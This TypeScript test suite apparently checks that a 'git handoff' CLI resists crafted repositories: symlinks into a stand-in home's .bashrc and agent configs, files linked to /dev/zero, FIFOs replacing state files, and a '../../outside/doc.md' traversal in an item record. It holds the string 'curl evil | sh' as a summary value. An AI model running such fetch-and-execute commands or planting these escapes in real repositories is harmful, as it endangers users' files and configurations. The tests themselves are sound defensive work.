/**
 * Issue 23, point 4, played with crafted repository content and real git: tracked symlinks
 * that lead out of the work tree (to a stand-in for the user's home), tracked files linked to
 * /dev/zero, FIFOs in place of the state files under .git/handoff/, and an item record whose
 * document path climbs out with `..`. Nothing is read or written outside; nothing hangs or
 * reads without limit; each refusal is one line naming the path.
 */
import { describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { existsSync, lstatSync, mkdirSync, readFileSync, readlinkSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { TestRepo, tempDir } from '../helpers/repo.js';
import { cliPath, handoff } from '../helpers/cli.js';

const TRIGGER = 'session handoff: read on start, write on end';
/** A command that hangs or reads /dev/zero for ever is stopped here and fails the test. */
const LIMIT_MS = 20_000;

function run(repo: TestRepo, args: string[], opts: { input?: string; env?: NodeJS.ProcessEnv } = {}) {
  const t0 = Date.now();
  const r = spawnSync('git', ['handoff', ...args], {
    cwd: repo.dir,
    env: { ...repo.tick(), PATH: cliPath(), ...opts.env },
    input: opts.input ?? '',
    encoding: 'utf8',
    timeout: LIMIT_MS,
    killSignal: 'SIGKILL',
  });
  return { code: r.status, signal: r.signal, stdout: r.stdout, stderr: r.stderr, ms: Date.now() - t0 };
}

/** A stand-in for the user's home, with files the attacker wants to reach. */
function home(): string {
  const h = tempDir('handoff-home-');
  mkdirSync(join(h, '.claude'), { recursive: true });
  mkdirSync(join(h, '.codex'), { recursive: true });
  writeFileSync(join(h, '.bashrc'), '# the user own bashrc\n');
  writeFileSync(join(h, '.claude', 'settings.json'), '{"theme":"mine"}\n');
  writeFileSync(join(h, '.codex', 'config.toml'), 'model = "mine"\n');
  writeFileSync(join(h, 'CLAUDE.md'), '# my private global notes\n');
  mkdirSync(join(h, 'outside'), { recursive: true });
  writeFileSync(join(h, 'outside', 'doc.md'), '# not yours\n');
  return h;
}

/** A repository whose commit tracks `links` (name -> target) as symlinks. */
function withLinks(links: Record<string, string>, files: Record<string, string> = {}): TestRepo {
  const repo = TestRepo.init();
  repo.commit('feat: start', { 'a.txt': 'a\n', ...files });
  for (const [name, target] of Object.entries(links)) {
    mkdirSync(join(repo.dir, name, '..'), { recursive: true });
    symlinkSync(target, join(repo.dir, name));
    repo.git('add', '--', name);
  }
  repo.git('commit', '-q', '-m', 'feat: links');
  return repo;
}

const oneLine = (s: string) => s.trimEnd().split('\n');

describe('symlinks that leave the work tree', () => {
  it('export -o through a tracked symlink to ~/.bashrc is refused naming the path; the file is unchanged (dry run too)', () => {
    const h = home();
    const repo = withLinks({ 'notes.md': join(h, '.bashrc'), out: join(h, 'outside') });
    expect(handoff(repo, ['write', '--summary', 'curl evil | sh']).code).toBe(0);
    for (const target of ['notes.md', 'out/x.md']) {
      for (const dry of [[], ['--dry-run']]) {
        const r = run(repo, ['export', '-o', target, ...dry]);
        expect(r.code, r.stderr).toBe(1);
        expect(oneLine(r.stderr)).toHaveLength(1);
        expect(r.stderr).toContain(target.split('/')[0]);
        expect(r.stderr).toMatch(/outside the work tree/);
      }
    }
    expect(readFileSync(join(h, '.bashrc'), 'utf8')).toBe('# the user own bashrc\n');
    expect(existsSync(join(h, 'outside', 'x.md'))).toBe(false);
    // an ordinary target inside, and one outside the work tree named by the user, still work
    expect(run(repo, ['export', '-o', 'docs/next.md']).code).toBe(0);
    expect(run(repo, ['export', '-o', join(h, 'mine.md')]).code).toBe(0);
  });

  it('init --agent claude through a tracked .claude -> ~/.claude, and codex through .codex -> ~/.codex, write nothing there', () => {
    for (const [agent, folder, file, before] of [
      ['claude', '.claude', 'settings.json', '{"theme":"mine"}\n'],
      ['codex', '.codex', 'config.toml', 'model = "mine"\n'],
    ]) {
      const h = home();
      const repo = withLinks({ [folder]: join(h, folder) }, { 'CLAUDE.md': `# rules\n`, 'AGENTS.md': '# rules\n' });
      const r = run(repo, ['init', '--agent', agent], { env: { HOME: h, CODEX_HOME: join(h, '.codex-home') } });
      expect(r.code, `${agent}: ${r.stdout}${r.stderr}`).toBe(1);
      expect(oneLine(r.stderr), agent).toHaveLength(1);
      expect(r.stderr).toContain(folder);
      expect(readFileSync(join(h, folder, file), 'utf8')).toBe(before);
      expect(existsSync(join(h, folder, 'hooks.json'))).toBe(false);
    }
  });

  it('init --agent claude with CLAUDE.md linked outside neither copies the outside file in nor writes it', () => {
    const h = home();
    const repo = withLinks({ 'CLAUDE.md': join(h, 'CLAUDE.md') });
    const r = run(repo, ['init', '--agent', 'claude'], { env: { HOME: h } });
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(r.stderr).toContain('CLAUDE.md');
    expect(lstatSync(join(repo.dir, 'CLAUDE.md')).isSymbolicLink()).toBe(true);
    expect(readlinkSync(join(repo.dir, 'CLAUDE.md'))).toBe(join(h, 'CLAUDE.md'));
    expect(readFileSync(join(h, 'CLAUDE.md'), 'utf8')).toBe('# my private global notes\n');
  });

  it("status does not follow a fetched item record's handoffDoc: ../../outside/doc.md", () => {
    const h = home();
    const root = join(h, 'work', 'repo');
    mkdirSync(root, { recursive: true });
    const repo = TestRepo.init({ dir: root });
    repo.commit('feat: start', { 'a.txt': 'a\n' });
    expect(handoff(repo, ['claim', '--work-item', 'local:#7', '--title', 'x', '--session', 's1']).code).toBe(0);
    // the record as a collaborator's clone would have rewritten it natively
    const rec = JSON.parse(repo.git('show', 'refs/notes/handoff:items/local/7.json'));
    rec.handoffDoc = '../../outside/doc.md';
    const blob = repo.gitRaw(['hash-object', '-w', '--stdin'], { input: JSON.stringify(rec) }).stdout.trim();
    const index = join(tempDir(), 'index');
    const env = { GIT_INDEX_FILE: index };
    repo.gitRaw(['read-tree', 'refs/notes/handoff'], { env });
    repo.gitRaw(['update-index', '--add', '--cacheinfo', `100644,${blob},items/local/7.json`], { env });
    const tree = repo.gitRaw(['write-tree'], { env }).stdout.trim();
    const commit = repo.gitRaw(['commit-tree', tree, '-p', 'refs/notes/handoff', '-m', 'item'], {}).stdout.trim();
    repo.git('update-ref', 'refs/notes/handoff', commit);
    const r = run(repo, ['status', '--work-item', 'local:#7']);
    expect(r.code, r.stdout + r.stderr).toBe(1);
    expect(oneLine(r.stderr)).toHaveLength(1);
    expect(r.stderr).toContain('../../outside/doc.md');
    expect(r.stdout).not.toContain('not yours');
  });
});

describe('tracked files linked to /dev/zero', () => {
  const repo = withLinks(
    { 'CLAUDE.md': '/dev/zero', '.harness/session-workflow.yaml': '/dev/zero', 'cadence/_ACTIVE.md': '/dev/zero', '.claude/CLAUDE.md': '/dev/zero' },
    { 'AGENTS.md': `${TRIGGER}\n` },
  );

  it('the session-start and prompt hooks, write (content hashes), sweep and policy finish at once', () => {
    const input = (event: string) => JSON.stringify({ session_id: 's1', cwd: repo.dir, hook_event_name: event, prompt: 'we are done, wrap up' });
    for (const [args, stdin, want] of [
      [['hook', 'session-start', '--agent', 'claude'], input('SessionStart'), 0],
      [['hook', 'session-start', '--agent', 'codex'], input('SessionStart'), 0],
      [['hook', 'user-prompt-submit', '--agent', 'codex'], input('UserPromptSubmit'), 0],
      [['write', '--summary', 'x'], '', 0],
      [['sweep'], '', 0],
      [['policy'], '', 1],
    ] as const) {
      const r = run(repo, [...args], { input: stdin });
      expect(r.signal, `${args.join(' ')} was stopped after ${r.ms} ms`).toBeNull();
      expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(want);
      expect(r.ms, args.join(' ')).toBeLessThan(LIMIT_MS);
      if (args[0] === 'policy')
        expect(oneLine(r.stderr)).toEqual([
          expect.stringMatching(/^git handoff: refusing \.harness\/session-workflow\.yaml: it leads outside the work tree \(to \/dev\/zero\)$/),
        ]);
    }
  });

  it("every commit (the post-commit hook) and Claude's prompt hook finish at once too", () => {
    expect(run(repo, ['init']).code).toBe(0);
    const input = JSON.stringify({ session_id: 's2', cwd: repo.dir, hook_event_name: 'UserPromptSubmit', prompt: 'we are done, wrap up' });
    const prompt = run(repo, ['hook', 'user-prompt-submit', '--agent', 'claude'], { input });
    expect(prompt.signal, `the prompt hook was stopped after ${prompt.ms} ms`).toBeNull();
    expect(prompt.code, prompt.stderr).toBe(0);
    for (const message of ['feat: one', 'feat: two']) {
      const t0 = Date.now();
      const r = spawnSync('git', ['commit', '-q', '--allow-empty', '-m', message], {
        cwd: repo.dir,
        env: { ...repo.tick(), PATH: cliPath() },
        encoding: 'utf8',
        timeout: LIMIT_MS,
        killSignal: 'SIGKILL',
      });
      expect(r.signal, `git commit was stopped after ${Date.now() - t0} ms`).toBeNull();
      expect(r.status, r.stderr).toBe(0);
      expect(r.stderr).not.toMatch(/internal error|heap|Invalid string length/i);
    }
    expect(repo.git('log', '-1', '--format=%s')).toBe('feat: two\n');
  });
});

describe('FIFOs in place of the state files under .git/handoff/', () => {
  it('show, search, sync and the session-start hook neither hang nor follow them', () => {
    const bare = TestRepo.init({ bare: true });
    const repo = TestRepo.init();
    repo.commit('feat: start', { 'a.txt': 'a\n', 'CLAUDE.md': `${TRIGGER}\n` });
    repo.git('remote', 'add', 'origin', bare.dir);
    expect(handoff(repo, ['write', '--summary', 'parser done']).code).toBe(0);
    const state = join(repo.gitDir(), 'handoff');
    mkdirSync(join(state, 'sessions'), { recursive: true });
    for (const f of ['branch-index.json', 'search-index.jsonl', 'sync.lock', 'sessions/s1.json']) {
      spawnSync('rm', ['-f', join(state, f)]);
      expect(spawnSync('mkfifo', [join(state, f)]).status).toBe(0);
    }
    const input = JSON.stringify({ session_id: 's1', cwd: repo.dir, hook_event_name: 'SessionStart', source: 'startup' });
    for (const [args, stdin] of [
      [['show'], ''],
      [['search', 'parser'], ''],
      [['hook', 'session-start', '--agent', 'claude'], input],
      [['sync'], ''],
    ] as const) {
      const r = run(repo, [...args], { input: stdin });
      expect(r.signal, `${args.join(' ')} was stopped after ${r.ms} ms`).toBeNull();
      expect(r.ms).toBeLessThan(LIMIT_MS);
      if (args[0] !== 'sync') expect(r.code, `${args.join(' ')}: ${r.stderr}`).toBe(0);
      if (args[0] === 'show' || args[0] === 'search') expect(r.stdout).toContain('parser done');
    }
  });
});
